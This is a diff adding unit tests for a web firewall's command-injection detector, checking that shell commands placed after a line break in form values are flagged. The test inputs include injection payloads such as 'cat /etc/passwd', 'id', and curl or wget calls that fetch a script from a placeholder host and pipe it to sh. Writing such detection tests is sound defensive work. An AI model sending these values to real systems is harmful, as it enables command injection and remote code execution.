@@ -31,3 +31,27 @@ describe('the command-injection pre-screen', () => {
     }
   })
 })
+
+describe('a command after a line break', () => {
+  const at2 = (v: string): string[] => {
+    const out: Finding[] = []
+    detectShell({ value: v, lower: v.toLowerCase(), kind: 'form', level: 2 }, out)
+    return out.map((f) => f.rule)
+  }
+
+  it('is chained to the value when the line before is a parameter value, however short', () => {
+    for (const v of ['x\ncat /etc/passwd', '127.0.0.1\nid', 'Hello\ncurl http://e.example/a.sh', 'order 12\n\nwget http://e.example/x']) {
+      expect(at2(v), v).toEqual(['waf.rce.command-chain'])
+    }
+  })
+
+  it('is quoted in a message when the line before is a sentence (level 3 only)', () => {
+    const ticket = "Hello, I'm integrating your API. This is what I send:\n\ncurl -X POST https://shop.example/api/cart -d '{\"sku\":\"A1\"}'\n\nand I get a 500."
+    expect(at2(ticket)).toEqual([])
+    const out: Finding[] = []
+    detectShell({ value: ticket, lower: ticket.toLowerCase(), kind: 'form', level: 3 }, out)
+    expect(out.map((f) => f.rule)).toEqual(['waf.rce.command-chain'])
+    // Chained on the same line, it still counts at level 2.
+    expect(at2('Please see the output below:\ncurl http://e.example/a.sh | sh')).toEqual(['waf.rce.command-chain'])
+  })
+})
